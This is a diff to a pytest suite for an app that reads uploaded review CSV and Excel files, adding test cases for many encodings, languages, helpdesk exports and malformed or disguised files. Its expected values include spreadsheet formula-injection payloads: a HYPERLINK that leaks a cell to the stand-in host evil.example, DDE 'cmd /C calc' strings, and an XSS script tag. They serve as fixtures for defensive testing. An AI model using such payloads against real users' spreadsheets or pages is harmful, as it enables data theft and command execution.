@@ -14,6 +14,7 @@ from openpyxl import Workbook as OpenpyxlWorkbook
 from lib import contract, uploads
 from lib.errors import UserFacingError
 from lib.uploads import ColumnGuess, apply_mapping, guess_columns, propose_label_mapping, read_upload
+from tests.data import make_upload_samples
 
 DATA = Path(__file__).resolve().parent / "data"
 
@@ -39,6 +40,28 @@ GOOD_FILES = {
     "long_text.csv": ("utf-8", ",", 13, ColumnGuess("text", "label", "category")),
     "hostile.csv": ("utf-8", ",", 8, ColumnGuess("text", "sentiment", "category")),
     "two_sheets.xlsx": (None, None, 12, ColumnGuess("Review", "Rating", "Channel")),
+    "labels_french.csv": ("utf-8", ",", 12, ColumnGuess("avis", "sentiment", None)),
+    "numbers_only.csv": ("utf-8", ",", 12, ColumnGuess(None, "stars", None)),
+    # other languages and their encodings
+    "japanese_shift_jis.csv": ("cp932", ",", 6, ColumnGuess("レビュー", "評価", "チャネル")),
+    "japanese_utf8.csv": ("utf-8", ",", 6, ColumnGuess("review", "sentiment", "channel")),
+    "arabic_rtl.csv": ("utf-8", ",", 6, ColumnGuess("text", "sentiment", "channel")),
+    "spanish_labels.csv": ("utf-8", ";", 6, ColumnGuess("comentario", None, None)),  # "sentimiento": the user picks it
+    "utf16be_bom.csv": ("utf-16", ",", 12, ColumnGuess("text", "label", None)),
+    # helpdesk exports: many columns, satisfaction scores, a team name in every row
+    "zendesk_export.csv": ("utf-8", ",", 12, ColumnGuess("Satisfaction Comment", "Satisfaction Score", "Group")),
+    "freshdesk_export.csv": ("utf-8-sig", ",", 12, ColumnGuess("Description", None, "Source")),
+    "helpdesk_title_row.xlsx": (None, None, 12, ColumnGuess("Comment", "Rating", "Channel")),
+    # awkward but readable shapes
+    "empty_columns.csv": ("utf-8", ",", 12, ColumnGuess("text", "sentiment", None)),
+    "unknown_labels.csv": ("utf-8", ",", 12, ColumnGuess("feedback", None, "mood")),
+    "quoted_newlines.csv": ("utf-8", ",", 4, ColumnGuess("text", "label", None)),
+    "formulas.csv": ("utf-8", ",", 6, ColumnGuess("text", "sentiment", None)),
+    "short_rows.csv": ("utf-8", ",", 3, ColumnGuess("text", "label", None)),
+    "mac_line_endings.csv": ("utf-8", ",", 12, ColumnGuess("text", "label", None)),
+    "trailing_separators.csv": ("utf-8", ";", 12, ColumnGuess("text", "label", None)),
+    "duplicate_names.csv": ("utf-8", ",", 12, ColumnGuess("Comment", "Rating", None)),
+    "blank_lines.csv": ("utf-8", ",", 3, ColumnGuess("text", "label", None)),
 }
 
 
@@ -63,6 +86,25 @@ def test_real_world_files_are_read_and_their_columns_guessed(name: str) -> None:
         ("utf8_comma.csv", "Comment", 3, 'Great value, but the manual says "plug in first", which is wrong.'),
         ("hostile.csv", "text", 0, "<script>alert('xss')</script> great product"),
         ("hostile.csv", "text", 2, '=HYPERLINK("http://evil.example","click me")'),
+        ("japanese_shift_jis.csv", "レビュー", 0, "配送が早くて、説明どおりに動きます。とても満足です。"),
+        ("japanese_utf8.csv", "channel", 2, "アプリ"),
+        ("arabic_rtl.csv", "text", 1, "الخدمة سيئة ولم يرد أحد على رسائلي"),
+        ("spanish_labels.csv", "comentario", 0, "¡Llegó rápido y funciona perfectamente! Muy contenta."),
+        ("utf16be_bom.csv", "text", 8, "Café au lait machine: crème is thick, taste is superb"),
+        ("quoted_newlines.csv", "text", 0, "First line.\r\nSecond line, with a comma.\r\n\r\nAfter a blank line."),
+        ("quoted_newlines.csv", "text", 1, 'She said "wow"\nthen left'),
+        ("formulas.csv", "text", 0, '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")'),
+        ("formulas.csv", "text", 1, "+cmd|' /C calc'!A0"),
+        ("formulas.csv", "text", 2, "@SUM(1+9)*cmd|' /C calc'!A0"),
+        ("formulas.csv", "text", 5, "\t=tab then formula"),
+        ("zendesk_export.csv", "Description", 3, 'Great value, but the manual says "plug in first", which is wrong.'),
+        ("freshdesk_export.csv", "Customer Satisfaction", 1, "Unhappy"),
+        ("helpdesk_title_row.xlsx", "Comment", 0, "Arrived quickly and works exactly as described. Very happy!"),
+        ("helpdesk_title_row.xlsx", "Ticket", 11, "#5011"),
+        ("mac_line_endings.csv", "text", 11, "Works; battery lasts about a day"),
+        ("trailing_separators.csv", "label", 0, "positive"),
+        ("duplicate_names.csv", "Comment.1", 0, "ARRIVED QUICKLY AND WORKS EXACTLY AS DESCRIBED. VERY HAPPY!"),
+        ("blank_lines.csv", "text", 2, "Fine"),
     ],
 )
 def test_text_survives_encoding_quotes_and_newlines_exactly(name: str, column: str, row: int, expected: str) -> None:
@@ -124,23 +166,70 @@ def test_blank_rows_and_unnamed_empty_columns_are_dropped() -> None:
 # ---- bad input: one sentence that says what to fix, nothing read ---------------------------
 
 
-@pytest.mark.parametrize(
-    ("name", "message", "hint"),
-    [
-        ("empty.csv", "“empty.csv” is empty", "Export the reviews again"),
-        ("header_only.csv", "has column names but no rows of reviews", "Export the reviews again with their rows"),
-        ("png_renamed.csv", "“png_renamed.csv” is a PNG image, not a table of reviews", "CSV, TSV or text file"),
-        ("zipped.csv", "“zipped.csv” is a ZIP archive", "Unzip it"),
-        ("reviews.zip", "“reviews.zip” is not a file type the app reads", ".xlsx"),
-        ("one_column.csv", "has only one column (“review”)", "separate columns"),
-        ("mixed_encoding.csv", "mixes two text encodings", "CSV UTF-8"),
-    ],
-)
-def test_bad_files_get_a_plain_error_saying_what_to_fix(name: str, message: str, hint: str) -> None:
+# file -> (what the message says is wrong, what the hint says to do)
+BAD_FILES = {
+    "empty.csv": ("“empty.csv” is empty", "Export the reviews again"),
+    "header_only.csv": ("has column names but no rows of reviews", "Export the reviews again with their rows"),
+    "png_renamed.csv": ("“png_renamed.csv” is a PNG image, not a table of reviews", "CSV, TSV or text file"),
+    "pdf_renamed.csv": ("“pdf_renamed.csv” is a PDF document, not a table of reviews", "CSV, TSV or text file"),
+    "gzip_renamed.csv": ("“gzip_renamed.csv” is a gzip-compressed file, not a table of reviews", "CSV, TSV or text file"),
+    "old_excel.csv": ("“old_excel.csv” is an old-style Office file (.xls or .doc)", "Excel .xlsx workbook"),
+    "html_page.csv": ("“html_page.csv” is a web page (HTML), not a table of reviews", "CSV, TSV or text file"),
+    "zipped.csv": ("“zipped.csv” is a ZIP archive", "Unzip it"),
+    "reviews.zip": ("“reviews.zip” is not a file type the app reads", ".xlsx"),
+    "one_column.csv": ("has only one column (“review”)", "separate columns"),
+    "mixed_encoding.csv": ("mixes two text encodings", "CSV UTF-8"),
+    "no_header.csv": (
+        "The first line of “no_header.csv” looks like a row of reviews, not column names",
+        "Add a first line naming each column",
+    ),
+    "ragged_rows.csv": ("Line 5 has 3 values where the header has 2", "Check that line for a stray separator"),
+    "wide_header.csv": (
+        "“wide_header.csv” has more than 500 columns, the most the app reads",
+        "Keep only the columns the evaluation needs",
+    ),
+    "long_column_name.csv": (
+        "Column 2 of “long_column_name.csv” has a name 275 characters long; a column name may have at most 200",
+        "short column names",
+    ),
+    "zip_bomb.xlsx": ("times tighter than the 100 a spreadsheet can be", "save the sheet with the reviews as “CSV UTF-8”"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(BAD_FILES))
+def test_bad_files_get_a_plain_error_saying_what_to_fix(name: str) -> None:
+    message, hint = BAD_FILES[name]
     with pytest.raises(UserFacingError) as caught:
         read(name)
     assert message in caught.value.message
     assert hint in caught.value.hint
+
+
+def test_every_file_of_the_corpus_has_an_expectation() -> None:
+    corpus = {path.name for path in DATA.iterdir() if path.suffix != ".py" and path.is_file()}
+    assert len(corpus) >= 40
+    assert corpus == set(GOOD_FILES) | set(BAD_FILES)
+    assert not set(GOOD_FILES) & set(BAD_FILES)
+    assert all(path.stat().st_size < 32 * 1024 for path in DATA.iterdir() if path.is_file()), "committed samples stay small"
+
+
+def test_the_corpus_is_what_its_script_builds() -> None:
+    built = make_upload_samples.build()
+    assert set(built) == {path.name for path in DATA.iterdir() if path.suffix != ".py" and path.is_file()}
+    stable = [name for name in built if not name.endswith((".xlsx", ".zip")) and name != "zipped.csv"]  # archives carry a timestamp
+    assert all(built[name] == (DATA / name).read_bytes() for name in stable)
+
+
+def test_awkward_shapes_keep_what_they_hold() -> None:
+    assert read("empty_columns.csv").frame[["Agent", "Tags"]].isna().all().all()
+    short = read("short_rows.csv").frame
+    assert short["label"].isna().tolist() == [False, False, True] and short["category"].isna().tolist() == [False, True, True]
+    assert list(read("trailing_separators.csv").frame.columns) == ["text", "label"]
+    book = uploads.workbook((DATA / "helpdesk_title_row.xlsx").read_bytes())
+    assert book is not None and book.sheets == ("Summary", "Tickets") and book.default == "Tickets"
+    zendesk = read("zendesk_export.csv").frame
+    assert propose_label_mapping(zendesk["Satisfaction Score"].unique()) == {"Good": "positive", "Bad": "negative", "Offered": None}
+    assert propose_label_mapping(read("unknown_labels.csv").frame["mood"].unique()) == {"Happy": None, "Angry": None, "Mixed": None}
 
 
 def test_ten_megabytes_in_one_cell_is_refused_with_row_and_column() -> None:
